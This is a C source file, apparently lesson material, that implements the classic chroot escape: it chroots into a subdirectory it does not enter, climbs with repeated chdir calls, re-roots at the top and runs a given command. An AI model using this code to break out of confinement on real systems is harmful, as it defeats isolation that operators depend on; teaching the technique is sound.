// escape.c — the classic way out of a chroot (lessons/02-chroot).
//
// chroot(2) changes where "/" starts, but not the current directory. If we
// chroot into a subdirectory while standing outside it, our working
// directory is above our own root, and ".." is only stopped at the root we
// hold. Climbing then walks up to the real top of the mount namespace, and a
// chroot(".") there makes it our root. Needs CAP_SYS_CHROOT.
//
// Usage: escape COMMAND [ARG…]   runs COMMAND once out (or not).
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: escape COMMAND [ARG...]\n");
    return 2;
  }
  // 1. A directory below where we stand, and make it our root. We do not
  //    chdir into it: the working directory stays outside the new root.
  if (mkdir("cell", 0700) != 0 && errno != EEXIST) {
    perror("mkdir cell");
    return 1;
  }
  if (chroot("cell") != 0) {
    perror("chroot cell");
    return 1;
  }
  // 2. Climb. ".." stops only at our root (now "cell", which we are not
  //    under) or at the root of the mount namespace.
  for (int i = 0; i < 100; i++) chdir("..");
  // 3. Wherever the climb ended becomes the root.
  if (chroot(".") != 0) {
    perror("chroot .");
    return 1;
  }
  execv(argv[1], argv + 1);
  fprintf(stderr, "escape: %s: %s\n", argv[1], strerror(errno));
  return 127;
}
